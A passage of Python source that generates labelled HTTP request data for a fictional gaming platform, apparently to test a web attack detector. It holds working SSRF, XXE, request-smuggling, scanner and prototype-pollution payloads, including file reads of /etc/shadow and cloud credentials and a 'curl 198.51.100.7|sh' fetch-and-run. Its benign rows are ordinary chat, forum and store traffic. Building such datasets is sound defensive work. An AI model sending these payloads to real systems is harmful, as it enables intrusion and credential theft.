    "http://172.16.0.10:8081/actuator/env",
    "http://0.0.0.0:5984/_all_dbs",
]


def a_ssrf(g):
    cat = "ssrf"
    for i, u in enumerate(SSRF_URLS):
        k = i % 6
        if k == 0:
            g.add("avatar-url", cat, "POST", "/v1/me/avatar/import", g.api(H_API, ctype="application/json"),
                  js({"url": u, "crop": {"x": 0, "y": 0, "size": 256}}))
        elif k == 1:
            g.add("webhook", cat, "POST", "/api/guilds/7731/integrations/webhooks", g.browser(H_FORUM, accept="json",
                  ctype="application/json"), js({"name": "raid alerts", "url": u, "events": ["raid.start"]}))
        elif k == 2:
            g.add("overlay-image", cat, "GET", "/overlay/proxy?" + qs([("img", u)]), g.browser(H_HOOKS, accept="image/*"))
        elif k == 3:
            g.add("mod-import", cat, "POST", "/workshop/import", g.browser(H_MODS, ctype="application/x-www-form-urlencoded"),
                  form([("source_url", u), ("license", "MIT")]))
        elif k == 4:
            g.add("team-logo", cat, "PATCH", "/api/tournaments/91/teams/12", g.api(H_ESPORTS, ctype="application/json",
                  ua=UA_BROWSERS[2]), js({"logoUrl": u}))
        else:
            g.add("stream-callback", cat, "POST", "/api/streams/subscriptions", g.api(H_HOOKS, ctype="application/json"),
                  js({"type": "stream.online", "condition": {"broadcaster_user_id": "1337"},
                      "transport": {"method": "webhook", "callback": u, "secret": g.alnum(20)}}))
    g.add("server-query", cat, "GET", "/api/servers/query?" + qs([("addr", "169.254.169.254:80"), ("proto", "http")]),
          g.browser(H_SERVERS, accept="json"))
    g.add("server-query", cat, "POST", "/api/servers/add", g.browser(H_SERVERS, accept="json", ctype="application/json"),
          js({"address": "10.0.0.12:6379", "probe": "INFO\r\n"}))


XXE_DOCS = [
    ('map.tmx', 'application/x-tiled+xml',
     '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE map [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
     '<map version="1.10" orientation="orthogonal" width="32" height="32" tilewidth="16" tileheight="16">\n'
     ' <properties><property name="author" value="&xxe;"/></properties>\n</map>\n'),
    ('About.xml', 'text/xml',
     '<?xml version="1.0"?>\n<!DOCTYPE ModMetaData [<!ENTITY % dtd SYSTEM "http://oast.example.com/evil.dtd"> %dtd; %send;]>\n'
     '<ModMetaData><name>Better Hats</name><packageId>owl.betterhats</packageId></ModMetaData>\n'),
    ('badge.svg', 'image/svg+xml',
     '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///home/steam/.steam/config/loginusers.vdf">]>\n'
     '<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text x="0" y="16">&xxe;</text></svg>\n'),
    ('replay.xml', 'application/xml',
     '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n'
     '<replay match="88412"><notes>&meta;</notes></replay>\n'),
    ('modinfo.xml', 'text/xml',
     '<?xml version="1.0"?>\n<modinfo xmlns:xi="http://www.w3.org/2001/XInclude"><name>HUD</name>'
     '<desc><xi:include parse="text" href="file:///etc/shadow"/></desc></modinfo>\n'),
]


def a_xxe(g):
    cat = "xxe"
    for fname, ctype, doc in XXE_DOCS:
        ct, body = g.multipart([("name", None, None, fname.split(".")[0]), ("file", fname, ctype, doc)])
        g.add("upload", cat, "POST", g.pick(["/workshop/upload", "/maps/upload", "/v1/me/badge"]),
              g.browser(g.pick([H_MODS, H_SERVERS]), ctype=ct), body)
    bodies = [
        ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
         '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
         '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>\n<telemetry><frame>&lol5;</frame></telemetry>', "/v1/telemetry/xml"),
        ('<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]>\n'
         '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetServerList><region>&x;</region>'
         '</GetServerList></soap:Body></soap:Envelope>', "/legacy/MasterServer.asmx"),
        ('<?xml version="1.0"?>\n<!DOCTYPE q [<!ENTITY x SYSTEM "expect://id">]>\n<query><player>&x;</player></query>', "/api/players/xml"),
        ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">'
         '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]>\n<r/>', "/v1/anticheat/reports"),
        ('<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]>\n<purchase><item>&x;</item></purchase>', "/api/store/purchase"),
        ('<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY x SYSTEM "jar:http://203.0.113.5/evil.jar!/x.txt">]>\n<bracket>&x;</bracket>', "/api/tournaments/91/import"),
        ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY % p1 SYSTEM "http://198.51.100.23/x.dtd">%p1;]>\n'
         '<login><user>admin</user><pass>x</pass></login>', "/v1/auth/login"),
    ]
    for doc, path in bodies:
        host = H_API if path.startswith("/v1") or path.startswith("/api") else H_SERVERS
        g.add("body", cat, "POST", path, g.api(host, ctype=g.pick(["application/xml", "text/xml"]), ua=g.pick(UA_TOOLS)), doc)


def a_protocol(g):
    cat = "protocol"
    smuggled = "0\r\n\r\nGET /panel/api/servers/12/rcon?cmd=status HTTP/1.1\r\nHost: rcon.example.net\r\nX-Ignore: x"
    g.add("smuggling", cat, "POST", "/v1/telemetry/batch", g.tool(H_TELE, "Mozilla/5.0",
          ctype="application/x-www-form-urlencoded", extra=[["Transfer-Encoding", "chunked"]]), smuggled)
    g.add("smuggling", cat, "POST", "/", g.tool(H_PLAY, "Mozilla/5.0", ctype="application/x-www-form-urlencoded",
          extra=[["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]]),
          "5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    g.add("smuggling", cat, "POST", "/api/chat/poll", g.tool(H_API, "Mozilla/5.0", ctype="application/x-www-form-urlencoded",
          extra=[["Transfer-Encoding", "xchunked"]]), "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    g.add("smuggling", cat, "POST", "/login", g.tool(H_PLAY, "Mozilla/5.0", ctype="application/x-www-form-urlencoded",
          extra=[["Transfer-Encoding", " chunked"], ["Transfer-Encoding", "chunked\t"]]),
          "0\r\n\r\nPOST /v1/me/wallet/transfer HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: 40\r\n\r\nto=88412&amount=")
    ranges = "bytes=0-," + ",".join(f"5-{i}" for i in range(0, 120))
    g.add("range-dos", cat, "GET", "/replays/88412.dem", g.tool(H_STATS, "Mozilla/5.0",
          extra=[["Range", ranges], ["Request-Range", ranges]]))
    g.add("host", cat, "GET", "/v1/auth/password-reset?email=lunar_owl%40example.com", g.tool(H_API, "Mozilla/5.0",
          extra=[["Host", "evil.example.net"]]))
    g.add("host", cat, "GET", "/panel/", g.tool("rcon.example.net:@evil.example.net", "Mozilla/5.0"))
    g.add("absolute-uri", cat, "GET", "http://127.0.0.1:8080/panel/api/servers", g.tool(H_RCON, "Mozilla/5.0"))
    g.add("override", cat, "GET", "/news", g.tool(H_PLAY, "Mozilla/5.0", extra=[["X-Original-URL", "/panel/admin/users"],
          ["X-Rewrite-URL", "/panel/admin/users"]]))
    g.add("hop-by-hop", cat, "GET", "/v1/me/inventory", g.tool(H_API, "Mozilla/5.0",
          extra=[["Connection", "close, X-Forwarded-For, X-Real-IP, Authorization"], ["X-Forwarded-For", "10.0.0.1"]]))
    g.add("trace", cat, "TRACE", "/", g.tool(H_PLAY, "Mozilla/5.0", extra=[["Cookie", "sid=" + g.alnum(32)],
          ["Max-Forwards", "0"]]))


def a_scanner(g):
    cat = "scanner"
    probes = [
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "/admin/config.php"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003497)", "/rcon/index.php"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "/.git/config"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "/nmaplowercheck1717432210"),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "/wp-login.php"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "/"),
        ("Mozilla/5.0 zgrab/0.x", "/"),
        ("gobuster/3.6", "/panel/backup.zip"),
        ("Fuzz Faster U Fool v2.1.0-dev", "/server.cfg"),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "/admin/"),
        ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "/phpmyadmin/index.php"),
        ("Mozilla/4.0 (Hydra)", "/panel/login"),
        ("sqlmap/1.8.3#stable (https://sqlmap.org)", "/api/players/search?q=1"),
        ("Mozilla/5.0 (compatible; Jorgee)", "/pma/scripts/setup.php"),
        ("Wfuzz/3.1.0", "/api/v1/FUZZ"),
        ("feroxbuster/2.10.2", "/.env"),
    ]
    for ua, path in probes:
        g.add("tool-ua", cat, "GET", path, g.tool(g.pick([H_PLAY, H_FORUM, H_RCON, H_SERVERS]), ua))
    g.add("acunetix", cat, "GET", "/acunetix-wvs-test-for-some-inexistent-file", g.tool(H_STORE,
          UA_BROWSERS[0], extra=[["Acunetix-Aspect", "enabled"], ["Acunetix-Aspect-Queries", "aspectalerts"]]))
    g.add("burp", cat, "GET", "/?" + qs([("q", "burpcollaborator.example.net")]) + "&", g.tool(H_PLAY, UA_BROWSERS[0],
          extra=[["X-Scanner", "Netsparker"]]))
    sensitive = ["/.env", "/.git/HEAD", "/.aws/credentials", "/config.json.bak", "/backup.sql", "/server-status",
                 "/actuator/env", "/actuator/heapdump", "/.DS_Store", "/web.config.bak", "/.svn/entries",
                 "/_profiler/phpinfo", "/jmx-console/HtmlAdaptor", "/telescope/requests", "/.vscode/sftp.json",
                 "/debug/pprof/heap", "/wp-config.php.bak", "/panel/.htpasswd", "/dump.rdb", "/db.sqlite3"]
    for p in sensitive:
        g.add("sensitive-path", cat, "GET", p, g.tool(g.pick([H_PLAY, H_FORUM, H_RCON, H_API, H_MODS]),
              g.pick(UA_TOOLS[:2] + ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)"])))
    g.add("default-creds", cat, "GET", "/manager/html", g.tool(H_SERVERS, "Mozilla/5.0",
          extra=[["Authorization", "Basic " + base64.b64encode(b"tomcat:tomcat").decode()]]))


def a_generic(g):
    cat = "generic"
    g.add("proto-query", cat, "GET", "/api/settings?__proto__[isAdmin]=true&theme=dark", g.browser(H_PLAY, accept="json"))
    g.add("proto-query", cat, "GET", "/v1/lobbies?constructor[prototype][role]=admin&region=eu-west", g.api(H_API))
    g.add("proto-query", cat, "GET", "/overlay/widget?__proto__%5BinnerHTML%5D=%3Cimg%2Fsrc%2Fonerror%3Dalert(1)%3E", g.browser(H_HOOKS))
    g.add("proto-query", cat, "GET", "/store/?__proto__.status=510&cat=skins", g.browser(H_STORE))
    g.add("proto-json", cat, "PATCH", "/v1/me/profile", g.api(H_API, ctype="application/json"),
          '{"bio":"hi","__proto__":{"isAdmin":true,"role":"gm"}}')
    g.add("proto-json", cat, "PUT", "/v1/me/settings", g.api(H_API, ctype="application/json"),
          js({"graphics": {"vsync": True}, "constructor": {"prototype": {"isStaff": True}}}))
    g.add("proto-json", cat, "POST", "/v1/me/settings/sync", g.api(H_API, ctype="application/json"),
          '{"keybinds":{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//",'
          '"NODE_OPTIONS":"--require /proc/self/cmdline"}}}')
    g.add("proto-json", cat, "POST", "/api/overlay/themes", g.api(H_HOOKS, ctype="application/json", ua=UA_BROWSERS[0]),
          '{"name":"neon","__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'curl 198.51.100.7|sh\');x"}}')
    g.add("proto-json", cat, "POST", "/api/overlay/themes", g.api(H_HOOKS, ctype="application/json", ua=UA_BROWSERS[0]),
          '{"name":"retro","__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')"}}')
    g.add("proto-json", cat, "POST", "/api/guilds/7731/roles", g.api(H_API, ctype="application/json"),
          '{"name":"officer","permissions":{"__proto__":{"json spaces":10,"exposedHeaders":["X-Polluted"]}}}')
    g.add("proto-form", cat, "POST", "/guilds/7731/settings", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          "__proto__%5BsourceURL%5D=%0areturn%20process.mainModule.require(%27child_process%27).execSync(%27id%27)%2F%2F&motd=hi")
    g.add("proto-form", cat, "POST", "/api/tournaments/91/settings", g.browser(H_ESPORTS, ctype="application/x-www-form-urlencoded"),
          "rules%5Bconstructor%5D%5Bprototype%5D%5BisOrganizer%5D=true&rules%5Bbo%5D=3")


def build_attacks():
    g = Gen("attacks")
    for fn in (a_sqli, a_xss, a_ssti, a_nosqli, a_ldapi, a_crlf, a_rce, a_lfi, a_rfi, a_php, a_java,
               a_ssrf, a_xxe, a_protocol, a_scanner, a_generic):
        fn(g)
    return g.rows


# ================================================================ benign

CHAT = [
    "gg wp", "gg ez no re", "ggwp all <3", "nice clutch!! 1v4 wtf", "lol xD", "brb 5 min, mom says dinner",
    "afk 2 min pls dont kick", "who wants to duo ranked? eu-west, plat 2", "lfg raid tonight 21:00 CET, need 1 healer",
    "anyone selling Frostbite Blade? paying 4k gold", "wts [Dragonscale Helm] 2.5k or best offer",
    "ty for carry <3", "omg that flick >_<", "rip my ping today :-(", "ok ok calm down ;)",
    "\"rotate B\" he said. we rotated. he went A.", "-- afk, be right back --", "n00b team again... pwn3d by a bot lol",
    "r u guys using the new patch meta or old one?", "select ur loadout before round starts pls", "union of our two guilds = best idea ever",
    "drop me some ammo plz", "where r u?? mid or long?", "1 or 2 more games then sleep", "can we not int this time kthx",
    "<3 <3 <3", "^_^ welcome to the guild!", "o7 commander", "xD xD xD", "that's a 10/10 play & i'm not even mad",
    "my k/d is 0.8 but my heart is 100%", "'nerf snipers' -- every forum thread ever", "who's on discord? link in guild info",
    "is the event shop reset at 00:00 UTC or 08:00?", "lmaooo that teabag 💀", "Ich brauche noch einen Tank für den Raid",
    "alguém pra jogar ranked? sou ouro", "¿alguien para la mazmorra diaria?", "ktoś na duo? :)", "한 판 더 할 사람?",
    "ez clap >:D", "who put the bomb in spawn lmao", "gg, sorry for the throw in round 12 :/", "report the spinbot pls, name is camperjoe",
    "WTB carry for Mythic+ 15, paying 200k", "its <= 3 games till promo, wish me luck", "he's literally < 10 hp just push",
    "dmg > heals, why are we losing?", "c u all tomorrow \\o/", "who else thinks the new map is mid?",
    "don't alt+F4 on me now", "type /join lfg-eu to get into the queue channel", "why is my fps 30 on a 4090 ??",
    "the boss drops the key 1 in 20 times, so farm it", "me & him vs the world", "bruh moment #3 today",
]

BIOS = [
    "Just a casual tank main <3 | EU | 21 | she/her",
    "Support main. Heals for hugs. >_<",
    "Plat 2 peak, hardstuck gold :-)",
    "Streaming Tue/Thu 8pm CET on twitch — come say hi ;)",
    "\"Aim is temporary, game sense is forever\"",
    "Lvl 99 Fishing. Do not @ me.",
    "ex-pro (2019), now coaching. DMs open for VOD reviews",
    "Building castles in Creative since 2015 🏰",
    "k/d < 1 but vibes > 9000",
    "Speedrunner | any% PB 1:23:45 | #1 on the Chapter 3 leaderboard",
    "Guild leader of Night Owls ~ recruiting night-shift raiders",
    "I main whoever is left. Fill player & proud & tired.",
]


def b_auth(g):
    for _ in range(6):
        u = g.pick(PLAYERS)
        g.add("login", "benign", "POST", "/v1/auth/login", g.api(H_API, ctype="application/json", token=False),
              js({"username": u, "password": g.pick(["hunter2!Owl", "P@ss'w0rd<3", "correct horse battery staple",
                  "x9#Kd$2!mQ", "Tr0ub4dor&3", "ilovemycat<3"]), "platform": g.pick(["pc", "ps5", "xbox", "switch"])}))
    for _ in range(3):
        g.add("refresh", "benign", "POST", "/v1/auth/token/refresh", g.api(H_API, ctype="application/json", token=False),
              js({"refreshToken": g.alnum(64), "deviceId": g.hexs(32)}))
    g.add("login-form", "benign", "POST", "/login", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded",
          referer=f"https://{H_PLAY}/login"), form([("username", "K4ti_Frost"), ("password", "mÿ-p4ss*word&more"),
          ("remember", "on"), ("csrf", g.alnum(32))]))
    g.add("openid", "benign", "GET", "/auth/openid/callback?" + qs([
        ("openid.ns", "http://specs.openid.net/auth/2.0"), ("openid.mode", "id_res"),
        ("openid.op_endpoint", "https://openid.example.org/login"),
        ("openid.claimed_id", "https://openid.example.org/id/76561198000000042"),
        ("openid.identity", "https://openid.example.org/id/76561198000000042"),
        ("openid.return_to", f"https://{H_PLAY}/auth/openid/callback"), ("openid.response_nonce", "2024-06-03T19:22:11Z" + g.alnum(8)),
        ("openid.assoc_handle", "1234567890"), ("openid.signed", "signed,op_endpoint,claimed_id,identity,return_to,response_nonce,assoc_handle"),
        ("openid.sig", g.alnum(27) + "=")]), g.browser(H_PLAY, referer="https://openid.example.org/"))
    g.add("oauth", "benign", "GET", "/oauth/twitch/callback?" + qs([("code", g.alnum(30)), ("scope", "user:read:email channel:read:subscriptions"),
          ("state", g.hexs(32))]), g.browser(H_HOOKS))
    g.add("register", "benign", "POST", "/v1/auth/register", g.api(H_API, ctype="application/json", token=False),
          js({"username": "Ørjan_GG", "email": "orjan@example.no", "password": "Fjord&Fj3ll!", "birthYear": 2001, "marketing": False}))
    g.add("logout", "benign", "POST", "/v1/auth/logout", g.api(H_API, ctype="application/json"), "{}")
    g.add("2fa", "benign", "POST", "/v1/auth/2fa/verify", g.api(H_API, ctype="application/json", token=False),
          js({"challengeId": g.hexs(24), "code": "482913"}))
    g.add("reset", "benign", "POST", "/v1/auth/password-reset", g.api(H_API, ctype="application/json", token=False),
          js({"email": "lunar_owl@example.com"}))


def b_profile(g):
    for bio in BIOS:
        g.add("bio", "benign", "PATCH", "/v1/me/profile", g.browser(H_PLAY, accept="json", ctype="application/json",
              referer=f"https://{H_PLAY}/settings/profile"), js({"bio": bio, "country": g.pick(["DE", "BR", "US", "PL", "KR", "NO", "FR"])}))
    for u in PLAYERS[:10]:
        g.add("view", "benign", "GET", "/profile/" + enc(u) + "/overview", g.browser(H_PLAY, referer=f"https://{H_PLAY}/friends"))
    for _ in range(4):
        g.add("me", "benign", "GET", g.pick(["/v1/me", "/v1/me/inventory", "/v1/me/wallet", "/v1/me/friends?status=online"]),
              g.api(H_API))
    png = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00@\x00\x00\x00@\x08\x06\x00\x00\x00\xaaiq\xde\x00\x00\x00\x19tEXtSoftware\x00Krita\x00"
    ct, body = g.multipart([("avatar", "me_in_cosplay.png", "image/png", png)])
    g.add("avatar", "benign", "POST", "/v1/me/avatar", g.browser(H_PLAY, accept="json", ctype=ct), body)
    g.add("avatar-url", "benign", "POST", "/v1/me/avatar/import", g.api(H_API, ctype="application/json"),
          js({"url": "https://cdn.example.com/user-uploads/2024/06/owl.png", "crop": {"x": 10, "y": 0, "size": 256}}))
    g.add("socials", "benign", "PATCH", "/v1/me/profile", g.api(H_API, ctype="application/json"),
          js({"socials": {"twitch": "https://twitch.example.com/shroomie", "youtube": "https://video.example.com/@shroomie"}}))
    g.add("settings", "benign", "PUT", "/v1/me/settings", g.api(H_API, ctype="application/json"),
          js({"graphics": {"preset": "high", "vsync": False, "fpsCap": 240, "fov": 103},
              "audio": {"master": 0.8, "voice": 0.65}, "crosshair": "0;P;c;5;h;0;f;0;0l;4;0o;2;0a;1;0f;0;1b;0"}))
    g.add("settings", "benign", "PUT", "/v1/me/settings/keybinds", g.api(H_API, ctype="application/json"),
          js({"jump": "SPACE", "crouch": "LCTRL", "ping": "MOUSE3", "chat_all": "Y", "chat_team": "U", "scoreboard": "TAB"}))
    g.add("friend", "benign", "POST", "/v1/me/friends", g.api(H_API, ctype="application/json"),
          js({"displayName": "João_mid", "message": "gg from last match, add me :)"}))


def b_leaderboard(g):
    for _ in range(18):
        q = [("season", str(g.num(8, 14))), ("mode", g.pick(MODES)), ("region", g.pick(REGIONS + ["global"]))]
        q.append(g.pick([("sort", "score"), ("sort", "-score"), ("sort", "kd_ratio:desc"), ("orderBy", "wins"),
                         ("sort", "rating"), ("sort", "headshot_pct")]))
        if g.rng.random() < 0.6:
            q.append(("order", g.pick(["asc", "desc"])))
        q += [("page", str(g.num(1, 20))), ("limit", g.pick(["25", "50", "100"]))]
        if g.rng.random() < 0.3:
            q.append(("fields", "name,score,wins,losses,kd_ratio"))
        if g.rng.random() < 0.3:
            q.append(("platform", g.pick(["pc", "console", "all"])))
        g.add("leaderboard", "benign", "GET", g.pick(["/v2/leaderboards/global", "/v2/leaderboards/ranked"]) + "?" +
              qs(q, plus=False), g.browser(H_STATS, accept="json", referer=f"https://{H_STATS}/leaderboards"))
    for n in ["Ørjan", "João", "K4ti", "dr disrespect", "O'Brien", "x_X", "Kuroneko", "bean counter", "tank-mom", "el niño"]:
        g.add("player-search", "benign", "GET", "/api/players/search?" + qs([("q", n), ("platform", "all")]),
              g.browser(H_PLAY, accept="json", referer=f"https://{H_PLAY}/friends"))
    g.add("leaderboard-json", "benign", "POST", "/v2/leaderboards/query", g.api(H_STATS, ctype="application/json"),
          js({"filter": {"region": "eu-west", "mode": "ranked", "score": {"gte": 2500}}, "sort": [{"field": "score", "dir": "desc"}], "limit": 20}))
    g.add("leaderboard-json", "benign", "POST", "/v2/leaderboards/query", g.api(H_STATS, ctype="application/json"),
          js({"filter": {"friendsOf": "88412"}, "sort": [{"field": "wins", "dir": "desc"}, {"field": "name", "dir": "asc"}]}))
    g.add("around-me", "benign", "GET", "/v2/leaderboards/ranked/around/88412?range=5", g.api(H_STATS))
    g.add("speedrun", "benign", "GET", "/api/speedruns?" + qs([("category", "Any% (No Major Glitches)"), ("platform", "PC"),
          ("verified", "true"), ("sort", "time")]), g.browser(H_STATS, accept="json"))


def b_matches(g):
    for _ in range(14):
        q = [("player_id", str(g.num(10000, 999999))), ("page", str(g.num(1, 8)))]
        if g.rng.random() < 0.5:
            q.append(("mode", g.pick(MODES)))
        if g.rng.random() < 0.4:
            q += [("since", "2024-05-01"), ("until", "2024-05-31")]
        if g.rng.random() < 0.4:
            q.append(("hero", g.pick(["Reaper", "Mercy", "Jett", "Sage", "Lúcio", "D.Va", "Soldier: 76"])))
        if g.rng.random() < 0.3:
            q.append(("map", g.pick(MAPS)))
        g.add("history", "benign", "GET", "/v2/matches/history?" + qs(q), g.api(H_STATS))
    for _ in range(6):
        g.add("match", "benign", "GET", f"/api/matches/{g.num(10**8, 10**9)}" + g.pick(["", "/timeline", "/scoreboard", "/rounds?round=12"]),
              g.browser(H_STATS, accept="json"))
    g.add("heroes", "benign", "GET", "/api/stats/heroes?" + qs([("queue", "5"), ("tier", "diamond+"), ("patch", "1.42")]), g.api(H_STATS))


FORUM_POSTS = [
    ("Patch 1.43 feedback", "[b]TL;DR:[/b] snipers fine, SMGs too strong at < 10m.\n\n[quote=\"lunar_owl\"]nerf snipers[/quote]\nNo. Just no :-)"),
    ("Recruiting: Night Owls (EU, 18+)", "We raid Wed/Sun 21:00-00:00 CET.\n- need 2 healers & 1 tank\n- discord required\n- no drama pls >_<\n\nApply in thread or /w tank_mom"),
    ("Guide: surviving wave 40 solo", "1) build the walls FIRST\n2) upgrade turrets to lvl 3 before wave 20\n3) keep 500g for repairs\n\nworks 9/10 times ;)"),
    ("Bug: stuck in the wall on ar_shoots", "Repro: jump + crouch at the crates near B (x=1024, y=-88). Game says \"out of bounds\" & kills you. [img]https://cdn.example.com/ss/88412.png[/img]"),
    ("Lost my items after the rollback??", "Had 3x Frostbite Blade, now 0. Ticket #88123 open since 5 days. Any GM here? :("),
    ("Fan art: Valkyrie in winter armor", "took me 12 hours <3 [url=https://art.example.org/valk]full res here[/url]"),
    ("Server maintenance 06/04", "Servers go down at 06:00 UTC for ~2h. Expect queues & DCs after. -- the Ops team"),
    ("Tier list (hot take inc.)", "S: Sage, Jett\nA: Reaper, Mercy\nB: everything else\nF: whoever picks D.Va into Zarya xD"),
    ("Why is matchmaking so slow in SA?", "Queue times > 8 min at night in sa-east. Any plans for cross-region with ping < 80ms?"),
    ("Looking for a duo partner", "Gold 3 support, mic, chill, no flame. Play most nights after 20:00 (GMT-3). Add: João_mid#4412"),
    ("What's the drop rate for the Dragon mount?", "Rumor says 1/1000. Been farming 300 runs... send help ;_;"),
    ("Thank you devs", "Whatever you did to the netcode, it's SO much better. 0 rubberbanding today. <3"),
    ("Hall of shame: worst team names", "1. \"Team Tilted\"\n2. \"We Lose Together\"\n3. \"Select * From Losers\" (ok that one's funny)\n4. \"404 Skill Not Found\""),
    ("Union Jack skin when?", "UK players want the Union Jack spray back for the Euro event!"),
    ("Trading rules reminder", "No real-money trading. Scams => perma ban. Use the in-game trade window & double check the item name."),
]


def b_chat(g):
    for i, m in enumerate(CHAT):
        k = i % 4
        if k in (0, 1):
            g.add("chat", "benign", "POST", f"/v1/chat/channels/{g.pick(['global', 'trade', 'guild-7731', 'lfg-eu', 'party-' + g.hexs(6)])}/messages",
                  g.api(H_API, ctype="application/json"), js({"text": m, "clientMsgId": g.hexs(16)}))
        elif k == 2:
            g.add("chat-whisper", "benign", "POST", "/v1/chat/whisper", g.api(H_API, ctype="application/json"),
                  js({"to": g.pick(PLAYERS), "text": m}))
        else:
            g.add("chat-web", "benign", "POST", "/api/chat/send", g.browser(H_PLAY, accept="json",
                  ctype="application/x-www-form-urlencoded", referer=f"https://{H_PLAY}/lobby"),
                  form([("channel", "lobby"), ("message", m)]))
    for _ in range(4):
        g.add("chat-poll", "benign", "GET", f"/v1/chat/channels/global/messages?after={g.num(10**12, 10**13)}&limit=50", g.api(H_API))


def b_forums(g):
    for title, body in FORUM_POSTS:
        g.add("thread", "benign", "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded",
              referer=f"https://{H_FORUM}/forums/general.4/"),
              form([("title", title), ("message", body), ("prefix_id", str(g.num(0, 9))), ("_xfToken", f"{g.num(1717000000, 1718000000)},{g.hexs(32)}")]))
    for _ in range(6):
        g.add("read", "benign", "GET", g.pick(["/forums/general.4/", "/threads/patch-1-43-feedback.88231/page-3",
              "/threads/recruiting-night-owls-eu-18.77120/", "/search/?q=drop+rate&t=post&o=relevance",
              "/members/lunar_owl.4471/", "/forums/trading.9/?prefix_id=2"]), g.browser(H_FORUM))
    for desc in ["Chill EU guild, 18+, we raid twice a week <3", "Competitive team | scrims daily | tryouts open >:)",
                 "Gilde für Feierabend-Spieler. Kein Stress, nur Spaß :-)", "we are bad at the game & we know it xD"]:
        g.add("guild-desc", "benign", "POST", f"/guilds/{g.num(100, 9999)}/edit", g.browser(H_FORUM,
              ctype="application/x-www-form-urlencoded", referer=f"https://{H_FORUM}/guilds"),
              form([("name", g.pick(["Night Owls", "Team Tilted", "Die Feierabendhelden", "Low Elo Legends"])),
                    ("motto", "gg or gg"), ("description", desc), ("_token", g.alnum(40))]))
    g.add("guild-search", "benign", "POST", "/guilds/search", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("tag", "OWL"), ("min_members", "5"), ("language", "en")]))
    g.add("react", "benign", "POST", "/posts/991231/react?reaction_id=1", g.browser(H_FORUM, accept="json",
          ctype="application/x-www-form-urlencoded"), form([("_xfToken", g.hexs(32)), ("_xfResponseType", "json")]))


def b_store(g):
    for _ in range(10):
        q = [("category", g.pick(["skins", "emotes", "bundles", "currency", "battle-pass", "sprays"])), ("sort", g.pick(["price", "-price", "new", "popular"]))]
        if g.rng.random() < 0.4:
            q.append(("price_max", str(g.pick([500, 1000, 1500, 2800]))))
        if g.rng.random() < 0.3:
            q.append(("q", g.pick(["dragon", "winter", "neon <3", "owl & moon"])))
        g.add("browse", "benign", "GET", "/api/store/items?" + qs(q), g.browser(H_STORE, accept="json", referer=f"https://{H_STORE}/"))
    for _ in range(6):
        g.add("purchase", "benign", "POST", "/api/store/purchase", g.api(H_STORE, ctype="application/json"),
              js({"itemId": str(g.num(1000, 9999)), "currency": g.pick(["gems", "gold"]), "quantity": 1, "expectedPrice": g.pick([450, 950, 1800]),
                  "idempotencyKey": g.hexs(32)}))
    g.add("gift", "benign", "POST", "/api/store/gift", g.api(H_STORE, ctype="application/json"),
          js({"itemId": "7731", "to": "K4ti_Frost", "message": "happy bday!! <3 :-)"}))
    g.add("redeem", "benign", "POST", "/api/wallet/redeem", g.browser(H_STORE, accept="json", ctype="application/x-www-form-urlencoded"),
          form([("code", "XMAS-2024-OWL7-88QZ"), ("csrf", g.alnum(24))]))
